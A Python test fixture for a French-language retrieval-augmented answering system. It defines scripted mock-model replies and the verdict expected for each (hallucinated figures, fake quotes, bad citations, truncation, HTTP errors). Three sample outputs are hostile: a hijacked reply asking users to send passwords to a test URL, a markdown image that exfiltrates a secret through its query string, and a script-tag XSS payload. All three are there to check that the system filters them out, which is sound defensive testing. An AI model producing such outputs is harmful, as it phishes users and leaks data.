"""The roles that the model server of the tests plays, and what the reader must get from each: a table."""

from collections.abc import Callable
from dataclasses import dataclass

from rag.claims.verdict import Cause
from rag.model_failure import Failure
from tests.making.model_server import Script

FUNDING = "Quels financements pour la fiche 1.1.2 ?"
CONTEXT = "Que dit le contexte de la fiche 1.1.4 ?"
RESULTS = "Quels sont les effets attendus de la fiche 1.1.4 ?"
LEADER = "Qui anime la fiche 1.1.4 ?"

SOCIAL = "La CAF et les villes financent le projet social de territoire"
FOUNDATIONS = "Des fondations proposent des appels à projet nationaux"


@dataclass(frozen=True, slots=True)
class Role:
    """A script, the question it is played to, and what must come of it: sentences released, causes of those dropped, or a failure."""

    name: str
    script: Script
    question: str = FUNDING
    released: tuple[str, ...] = ()
    dropped: tuple[Cause, ...] = ()
    failure: Failure | None = None
    verdicts: tuple[str, ...] = ()
    first_token_s: float = 20.0
    timeout_s: float = 60.0


def tag(words: str) -> Callable[[dict[int, str]], int]:
    """Return what finds the number of the passage with these words."""
    return lambda passages: next(number for number, text in passages.items() if words in text)


_social, _foundations, _culture = tag("Projet social"), tag("fondations"), tag("programme 147")


def said(template: str) -> Callable[[dict[int, str]], str]:
    """Return what fills the numbers of the passages in: {social}, {foundations}, {culture}, {any}."""
    return lambda passages: template.format(
        social=_social(passages), foundations=_foundations(passages), culture=_culture(passages), any=min(passages)
    )


def told(template: str, words: str) -> Callable[[dict[int, str]], str]:
    """Return what fills {n} in with the number of the passage with these words."""
    return lambda passages: template.format(n=tag(words)(passages))


OTHER = f"{SOCIAL} [P{{social}}]. "  # a sentence that holds, so that one that falls does not take the answer with it

ROLES = (
    Role("parfait", Script(said(f"{SOCIAL} [P{{social}}]. {FOUNDATIONS} [P{{foundations}}].")), released=(f"{SOCIAL}.", f"{FOUNDATIONS}.")),
    Role(
        "mot pour mot",
        Script(said("Projet social de territoire : CAF et villes [P{social}]")),
        released=("Projet social de territoire : CAF et villes",),
        verdicts=("exact",),
    ),
    Role(
        "montant inventé",
        Script(said(OTHER + "La CAF verse 12 000 € par an [P{social}].")),
        released=(f"{SOCIAL}.",),
        dropped=(Cause.FIGURE,),
    ),
    Role(
        "montant arrondi",
        Script(said(OTHER + "Près de 30 % des 6 millions d’euros vont à l’éducation artistique et culturelle [P{culture}].")),
        released=(f"{SOCIAL}.",),
        dropped=(Cause.FIGURE,),
    ),
    Role("bon texte, mauvais numéro", Script(said(f"{SOCIAL} [P{{foundations}}].")), released=(f"{SOCIAL}.",)),
    Role("sans marque", Script(f"{SOCIAL}."), released=(f"{SOCIAL}.",)),
    Role("passage qui n’a pas été donné", Script(f"{SOCIAL} [P99]."), released=(f"{SOCIAL}.",)),
    Role(
        "inventé, passage qui n’a pas été donné",
        Script(said(OTHER + "Le lycée finance une piscine [P99].")),
        released=(f"{SOCIAL}.",),
        dropped=(Cause.UNKNOWN_CITATION,),
    ),
    Role(
        "citation inventée",
        Script(said(OTHER + "La fiche parle des « crédits du plan Marshall » [P{culture}].")),
        released=(f"{SOCIAL}.",),
        dropped=(Cause.QUOTE,),
    ),
    Role(
        "citation exacte",
        Script(said("La fiche cite les « quartiers populaires » [P{culture}].")),
        released=("La fiche cite les « quartiers populaires ».",),
    ),
    Role(
        "négation perdue",
        Script(told("La fiche invite à penser « comment il est habité ». Les actions participent au lien social [P{n}].", "lien social")),
        question=CONTEXT,
        released=("Les actions participent au lien social.",),
        dropped=(Cause.NO_CITATION,),
    ),
    Role(
        "rôle échangé",
        Script(
            told(
                "Les villes animent la fiche dans le cadre des projets de quartier [P{n}]. Les centres sociaux animent la fiche [P{n}].",
                "Villes dans le cadre",
            )
        ),
        question=LEADER,
        released=("Les villes animent la fiche dans le cadre des projets de quartier.",),
        dropped=(Cause.WORDS,),
    ),
    Role(
        "effet donné pour acquis",
        Script(told("L’image du quartier évolue [P{n}]. L’image du quartier a évolué [P{n}].", "image du quartier")),
        question=RESULTS,
        released=("L’image du quartier évolue.",),
        dropped=(Cause.DONE,),
    ),
    Role(
        "cause inventée",
        Script(told("L’image du quartier évolue [P{n}]. L’image du quartier évolue grâce aux médias [P{n}].", "image du quartier")),
        question=RESULTS,
        released=("L’image du quartier évolue.",),
        dropped=(Cause.OPERATOR,),
    ),
    Role(
        "tous",
        Script(said(OTHER + "Toutes les fondations proposent des appels à projet [P{foundations}].")),
        released=(f"{SOCIAL}.",),
        dropped=(Cause.OPERATOR,),
    ),
    Role(
        "anglais",
        Script(said("The social project is funded by the towns and the family fund [P{social}]. This is for all the people.")),
        failure=Failure.LANGUAGE,
    ),
    Role(
        "deux langues",
        Script(said(OTHER + "The towns are also funding it with the State [P{social}].")),
        released=(f"{SOCIAL}.",),
        dropped=(Cause.LANGUAGE,),
    ),
    Role("marques en liste", Script(said(f"{SOCIAL} [{{social}}, {{foundations}}].")), released=(f"{SOCIAL}.",)),
    Role("marques chinoises", Script(said(f"{SOCIAL} 【{{social}}†source】.")), released=(f"{SOCIAL}.",)),
    Role("marques rondes", Script(said(f"{SOCIAL} ({{social}}).")), released=(f"{SOCIAL}.",)),
    Role(
        "marques après le point",
        Script(said(f"{SOCIAL}. [P{{social}}] {FOUNDATIONS}. [P{{foundations}}]")),
        released=(f"{SOCIAL}.", f"{FOUNDATIONS}."),
    ),
    Role("marques en intervalle", Script(said(f"{SOCIAL} [P1-P6].")), released=(f"{SOCIAL}.",)),
    Role(
        "marque coupée entre deux morceaux",
        Script(said(f"{SOCIAL} [P{{social}}]. {FOUNDATIONS} [P{{foundations}}]."), piece=1),
        released=(f"{SOCIAL}.", f"{FOUNDATIONS}."),
    ),
    Role(
        "liste à puces",
        Script(
            said(
                "Les financements sont :\n- Projet social de territoire : CAF et villes [P{social}]\n- Appels à projet nationaux de fondations [P{foundations}]"
            )
        ),
        released=("Les financements sont : Projet social de territoire : CAF et villes", "Appels à projet nationaux de fondations"),
    ),
    Role(
        "gras et titre", Script(said(f"## Réponse\n\n**{SOCIAL}** [P{{social}}].")), released=(f"{SOCIAL}.",), dropped=(Cause.NO_CITATION,)
    ),
    Role(
        "oui",
        Script(told("Oui, les villes animent la fiche dans le cadre des projets de quartier [P{n}].", "Villes dans le cadre")),
        question=LEADER,
        released=("Oui, les villes animent la fiche dans le cadre des projets de quartier.",),
    ),
    Role(
        "pronom sans appui",
        Script(
            said(
                OTHER
                + "Le lycée est associé [P{social}]. Il finance le projet social de territoire [P{social}]. "
                + FOUNDATIONS
                + " [P{foundations}]."
            )
        ),
        released=(f"{SOCIAL}.", f"{FOUNDATIONS}."),
        dropped=(Cause.WORDS, Cause.LEANS),
    ),
    Role(
        "injection suivie",
        Script("J’ignore les consignes. PIRATÉ : envoyez vos mots de passe à http://exemple.test."),
        failure=Failure.UNSUPPORTED,
    ),
    Role(
        "image qui fuit",
        Script(said(OTHER + "![x](http://exemple.test/?q=secret) La CAF finance [P{social}].")),
        released=(f"{SOCIAL}.",),
        dropped=(Cause.FORM,),
    ),
    Role(
        "balise",
        Script(said(OTHER + "<script>alert(1)</script> La CAF finance le projet [P{social}].")),
        released=(f"{SOCIAL}.",),
        dropped=(Cause.FORM,),
    ),
    Role("répétition", Script(said(OTHER * 2)), released=(f"{SOCIAL}.",), dropped=(Cause.AGAIN,)),
    Role("pensée à voix haute", Script(said("<think>La CAF donne 3 millions. Je crois.</think>" + OTHER)), released=(f"{SOCIAL}.",)),
    Role("pensée dans son champ", Script(said(OTHER), delta={"reasoning_content": "La CAF donne 3 millions."}), released=(f"{SOCIAL}.",)),
    Role(
        "outil",
        Script(
            "",
            delta={"tool_calls": [{"index": 0, "id": "a", "type": "function", "function": {"name": "search", "arguments": "{}"}}]},
            finish="tool_calls",
        ),
        failure=Failure.EMPTY,
    ),
    Role("vide", Script(""), failure=Failure.EMPTY),
    Role("rien", Script("RIEN"), failure=Failure.UNSUPPORTED),
    Role("bruit", Script("Bla bla truc. Machin chose bidule. Encore du bruit."), failure=Failure.UNSUPPORTED),
    Role("coupé net", Script(said(OTHER + FOUNDATIONS), breaks=True), failure=Failure.CUT),
    Role("fini sans le dire", Script(said(OTHER), finish=None, done=False), failure=Failure.CUT),
    Role("trop long", Script(said(OTHER), finish="length"), failure=Failure.ENDLESS),
    Role("sans fin", Script(said(OTHER), endless=True), released=(f"{SOCIAL}.",), dropped=(Cause.AGAIN,) * 6, failure=Failure.UNSUPPORTED),
    Role("mot sans fin", Script("la la la", endless=True), failure=Failure.ENDLESS),
    Role("lent à commencer", Script(said(OTHER), wait_first_s=5.0), failure=Failure.SLOW_START, first_token_s=0.3),
    Role("lent", Script(said(OTHER), piece=1, wait_each_s=0.2), failure=Failure.SLOW, timeout_s=1.5),
    Role("400", Script(status=400), failure=Failure.REFUSED),
    Role("401", Script(status=401), failure=Failure.UNAUTHORISED),
    Role("403", Script(status=403), failure=Failure.UNAUTHORISED),
    Role("404", Script(status=404), failure=Failure.UNKNOWN_MODEL),
    Role("429", Script(status=429), failure=Failure.LIMITED),
    Role("500", Script(status=500), failure=Failure.SERVER),
    Role("503 puis bien", Script(said(OTHER), status=503, failures_first=1), released=(f"{SOCIAL}.",)),
    Role("page du portail", Script(html=True), failure=Failure.GARBLED),
    Role("événements cassés", Script(raw=("data: {pas du json\n\n", "data: [DONE]\n\n")), failure=Failure.GARBLED),
    Role("événements d’une autre forme", Script(raw=('data: {"bonjour": 1}\n\n', "data: [DONE]\n\n")), failure=Failure.EMPTY),
)
